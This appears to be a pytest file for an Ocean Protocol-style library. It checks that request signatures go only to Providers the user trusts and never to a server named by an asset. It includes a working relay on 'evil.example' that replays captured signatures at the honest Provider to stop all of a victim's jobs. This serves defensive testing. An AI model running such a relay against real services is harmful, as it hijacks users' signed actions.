"""Signatures go to Providers that the user has chosen, whatever an asset names.

What is signed names no Provider: whoever gets a signature can use it at the honest one. Here an
asset names a server that does so. Both have names that a resolver held in place leads to loopback,
since on loopback all Providers are trusted.
"""

from __future__ import annotations

import io
import json
import socket
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import suppress
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import pytest

from ocean_lib.cli import main
from ocean_lib.config import Config
from ocean_lib.data_provider.data_service_provider import DataServiceProvider
from ocean_lib.exceptions import OceanError, ProviderNotTrusted
from ocean_lib.models.compute_input import ComputeInput
from ocean_lib.ocean.ocean import Ocean
from ocean_lib.ocean.ocean_compute import OceanCompute
from tests.players import DID, ORDER, RAW, SERVICE_INDEX, Fault, World, new_wallet, start
from tests.wire import Reply, Request, WireServer, as_json, html

HONEST, EVIL = "provider.example", "evil.example"
SECRET_URL = "https://store.example/data.csv?key=5e5ec0de"


class Relay:
    """A server that plays the Provider to its guests, and uses what they sign at the honest one.

    Attributes:
        signed: the signed calls that it got.
    """

    def __init__(self, honest: str) -> None:
        self.honest = honest
        self.signed: list[Request] = []

    def __enter__(self) -> Relay:
        self.server = WireServer(self._route)
        self.server.__enter__()
        self.url = f"http://{EVIL}:{self.server.port}"
        return self

    def __exit__(self, *error: object) -> None:
        self.server.__exit__(*error)

    def _route(self, request: Request) -> Reply:
        said = request.json() if request.body else request.query
        if "signature" in said:
            self.signed.append(request)
        if request.method != "POST" or "signature" not in said:
            return self._ask(request.method, request.target, request.body)
        stolen = {
            "signature": said["signature"],
            "documentId": said["documentId"],
            "consumerAddress": said["consumerAddress"],
            "jobId": "",
        }
        return self._ask("PUT", f"/api/v1/services/compute?{urlencode(stolen)}", b"")

    def _ask(self, method: str, target: str, body: bytes) -> Reply:
        headers = {"Content-Type": "application/json"}
        asked = urllib.request.Request(self.honest + target, body or None, headers, method=method)
        try:
            with urllib.request.urlopen(asked, timeout=20) as found:
                return as_json(json.load(found))
        except urllib.error.HTTPError as error:
            return as_json({"error": "no"}, error.code)


class Scene:
    """A victim with a job at the honest Provider, and an asset that names the relay."""

    def __init__(self, world: World, relay: Relay) -> None:
        self.world = world
        self.relay = relay
        self.wallet = new_wallet()
        self.honest_url = f"http://{HONEST}:{world.provider.server.port}"
        world.aquarius.provider_url = self.honest_url
        self.job_id = start(self.compute(), self.wallet)
        world.aquarius.provider_url = relay.url
        relay.signed.clear()

    def config(self, **resources: Any) -> Config:
        return self.world.config(**{"provider.url": self.honest_url, **resources})

    def compute(self, **resources: Any) -> OceanCompute:
        config = self.config(**resources)
        return OceanCompute(config, DataServiceProvider(config))

    @property
    def stopped(self) -> bool:
        return any(job["stopreq"] for job in self.world.provider.jobs)


@pytest.fixture
def scene(monkeypatch: pytest.MonkeyPatch) -> Iterator[Scene]:
    really = socket.getaddrinfo

    def held(host: Any, *args: Any, **kwargs: Any) -> Any:
        if host not in (HONEST, EVIL, "127.0.0.1"):
            raise socket.gaierror(socket.EAI_NONAME, "no other name is known here")
        return really("127.0.0.1", *args, **kwargs)

    monkeypatch.setattr(socket, "getaddrinfo", held)
    for name in ("PROVIDER_URL", "PROVIDER_TRUSTED", "HTTP_PROXY", "http_proxy", "ALL_PROXY"):
        monkeypatch.delenv(name, raising=False)
    with World() as world, Relay(world.provider.url) as relay:
        yield Scene(world, relay)


def download(scene: Scene, config: Config) -> Any:
    services = scene.world.aquarius.ddo["service"]
    compute = next(service for service in services if service["type"] == "compute")
    access = {"type": "access", "index": 3, "serviceEndpoint": scene.relay.url}
    services.append({**compute, **access})
    return Ocean(config).assets.download(DID, 3, scene.wallet, ORDER, "/nowhere/at/all")


def at_relay(scene: Scene, config: Config) -> tuple[DataServiceProvider, str, str]:
    provider = DataServiceProvider(config)
    return provider, f"{scene.relay.url}/api/v1/services/compute", scene.wallet.address


def signed_status(scene: Scene, config: Config) -> Any:
    provider, url, address = at_relay(scene, config)
    return provider.compute_job_status(DID, scene.job_id, url, address, "0x" + "5a" * 65)


def direct_stop_all(scene: Scene, config: Config) -> Any:
    provider, url, address = at_relay(scene, config)
    return provider.stop_all_compute_jobs(DID, url, address, "0x" + "5a" * 65)


def direct_download(scene: Scene, config: Config) -> Any:
    provider, url, address = at_relay(scene, config)
    return provider.download_service(DID, url, scene.wallet, [{}], "/nowhere", 3, address, ORDER)


def update_with_new_files(scene: Scene, config: Config) -> Any:
    assets = Ocean(config).assets
    asset = assets.resolve(DID)
    asset.metadata["main"]["files"] = [{"url": SECRET_URL, "contentType": "text/csv"}]
    return assets.update(asset, scene.wallet, wait_for_cache_s=0)


def compute_of(config: Config) -> OceanCompute:
    return OceanCompute(config, DataServiceProvider(config))


def by_the_class(config: Config) -> OceanCompute:
    return OceanCompute(config, DataServiceProvider)


CALLS: dict[str, Callable[[Scene, Config], Any]] = {
    "start": lambda s, c: start(compute_of(c), s.wallet),
    "start over a nonce": lambda s, c: start(compute_of(c), s.wallet, nonce=1, algorithm_meta=RAW),
    "result": lambda s, c: compute_of(c).result(DID, s.job_id, s.wallet),
    "stop": lambda s, c: compute_of(c).stop(DID, s.job_id, s.wallet),
    "stop all": lambda s, c: compute_of(c).stop_all(DID, s.wallet, confirm=True),
    "delete": lambda s, c: compute_of(c).delete(DID, s.job_id, s.wallet),
    "a handle's download": lambda s, c: (
        compute_of(c).job(DID, s.job_id, s.wallet).download("/nowhere/at/all")
    ),
    "assets.download": download,
    "assets.update with new files": update_with_new_files,
    "start by the class": lambda s, c: start(by_the_class(c), s.wallet),
    "stop by the class": lambda s, c: by_the_class(c).stop(DID, s.job_id, s.wallet),
    "a signed status": signed_status,
    "stop all at the Provider's client": direct_stop_all,
    "download at the Provider's client": direct_download,
}


@pytest.mark.parametrize("token", ["off", "on"])
@pytest.mark.parametrize("call", CALLS.values(), ids=CALLS)
def test_a_server_that_only_an_asset_names_gets_no_signature(
    scene: Scene, call: Callable[[Scene, Config], Any], token: str
) -> None:
    with pytest.raises(ProviderNotTrusted) as caught:
        call(scene, scene.config(auth_token=token))

    assert (caught.value.origin, caught.value.did) == (scene.relay.url, DID)
    assert scene.relay.signed == []
    assert not any(SECRET_URL.encode() in request.body for request in scene.relay.server.requests)
    assert not scene.stopped


def test_trusted_by_mistake_it_can_stop_all_jobs_by_a_start(scene: Scene) -> None:
    """Such is the attack: without it the tests above would prove nothing."""
    with suppress(OceanError):  # what it answers is another thing
        start(scene.compute(**{"provider.trusted": f"other.example, {EVIL}"}), scene.wallet)

    assert scene.stopped


@pytest.mark.parametrize(("trusted", "found"), [("", ["provider-not-trusted"]), (EVIL, [])])
def test_a_check_tells_before_a_start_does(scene: Scene, trusted: str, found: list[str]) -> None:
    findings = scene.compute(**{"provider.trusted": trusted}).check(
        [ComputeInput(DID, ORDER, SERVICE_INDEX)], scene.wallet, algorithm_meta=RAW
    )

    about = [f for f in findings if f.code == "provider-not-trusted"]
    assert [(f.code, f.subject) for f in about] == [(code, DID) for code in found]
    assert scene.relay.signed == []


def test_unsigned_calls_ask_it_all_the_same(scene: Scene) -> None:
    compute = scene.compute()

    assert compute.status(DID, scene.job_id, scene.wallet)["status"] == 1
    assert [job.job_id for job in compute.jobs(scene.wallet, DID)] == [scene.job_id]


def test_a_provider_that_is_trusted_is_asked(scene: Scene) -> None:
    scene.world.aquarius.provider_url = scene.honest_url
    config = scene.config(**{"provider.url": scene.relay.url, "provider.trusted": HONEST})
    compute = compute_of(config)

    assert compute.check_provider(DID) == scene.honest_url
    compute.stop(DID, scene.job_id, scene.wallet)
    assert scene.stopped


@pytest.mark.parametrize("trusted", ["", EVIL])
def test_where_no_provider_is_configured_only_those_trusted_get_a_signature(
    scene: Scene, trusted: str
) -> None:
    scene.world.aquarius.provider_url = scene.honest_url
    config = scene.config(**{"provider.url": "", "provider.trusted": trusted})
    compute = compute_of(config)

    assert compute.status(DID, scene.job_id, scene.wallet)["status"] == 1
    with pytest.raises(ProviderNotTrusted) as caught:
        start(compute, scene.wallet)
    assert not scene.relay.signed

    config.trust_provider(caught.value.origin)

    assert start(compute, scene.wallet) != scene.job_id


def test_an_asset_that_moves_during_a_call_takes_no_signature_along(scene: Scene) -> None:
    scene.world.aquarius.provider_url = scene.honest_url
    compute = scene.compute()
    compute.status(DID, scene.job_id, scene.wallet)
    scene.world.aquarius.provider_url = scene.relay.url
    scene.world.provider.faults["stop"] = Fault(html(404), acts=False)

    with pytest.raises(ProviderNotTrusted):
        compute.stop(DID, scene.job_id, scene.wallet)

    assert scene.relay.signed == []


def test_a_name_that_leads_to_loopback_is_not_loopback(scene: Scene) -> None:
    """With a Provider on loopback all others there are trusted: by their address, not by name."""
    config = scene.config(**{"provider.url": scene.world.provider.url})

    with pytest.raises(ProviderNotTrusted):
        compute_of(config).stop(DID, scene.job_id, scene.wallet)

    assert scene.relay.signed == []


class Typing(io.StringIO):
    """A terminal at which this is typed."""

    def isatty(self) -> bool:
        return True


class AtTheCommandLine:
    """Runs `ocean-compute` in this process, with a config file and a job file."""

    def __init__(self, scene: Scene, folder: Path, patch: pytest.MonkeyPatch) -> None:
        self.patch = patch
        self.config = folder / "config.ini"
        self.config.write_text(
            "[eth-network]\nnetwork = http://127.0.0.1:1\n\n"
            f"[resources]\n# mine\nprovider.url = {scene.honest_url}\n"
            f"metadata_cache_uri = {scene.world.aquarius.url}\n",
            encoding="utf-8",
        )
        self.job = folder / "job.json"
        kept = scene.compute().job(DID, scene.job_id, scene.wallet).to_dict()
        self.job.write_text(json.dumps(kept), encoding="utf-8")
        patch.setenv("OCEAN_PRIVATE_KEY", scene.wallet.unsafe_private_key())
        for name in ("CONFIG_FILE", "OCEAN_KEYSTORE", "OCEAN_JOB_FILE"):
            patch.delenv(name, raising=False)

    def stop(self, *typed: str) -> int:
        """Stop the job, with these answers typed; without any there is no terminal."""
        stdin = Typing("".join(f"{line}\n" for line in typed)) if typed else io.StringIO()
        self.patch.setattr("sys.stdin", stdin)
        return main(["stop", "--config", str(self.config), "--job-file", str(self.job)])


@pytest.fixture
def line(scene: Scene, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AtTheCommandLine:
    return AtTheCommandLine(scene, tmp_path, monkeypatch)


def test_the_command_line_refuses_where_nobody_can_answer(
    line: AtTheCommandLine, scene: Scene, capsys: pytest.CaptureFixture[str]
) -> None:
    before = line.config.read_text(encoding="utf-8")

    assert line.stop() == 2

    assert f"provider.trusted = {scene.relay.url}" in capsys.readouterr().err
    assert scene.relay.signed == []
    assert line.config.read_text(encoding="utf-8") == before


def test_the_command_line_takes_no_for_an_answer(line: AtTheCommandLine, scene: Scene) -> None:
    assert line.stop("no") == 2
    assert line.stop("") == 2

    assert scene.relay.signed == []


def test_the_command_line_asks_again_after_once(line: AtTheCommandLine, scene: Scene) -> None:
    before = line.config.read_text(encoding="utf-8")

    assert line.stop("once") == 0

    assert len(scene.relay.signed) == 1
    assert line.config.read_text(encoding="utf-8") == before


def test_the_command_line_keeps_always_and_asks_no_more(
    line: AtTheCommandLine, scene: Scene
) -> None:
    assert line.stop("always") == 0

    assert line.stop() == 0
    kept = Config(line.config)
    assert (kept.trusted_providers, kept.provider_url) == (scene.relay.url, scene.honest_url)
    assert "# mine\n" in line.config.read_text(encoding="utf-8")
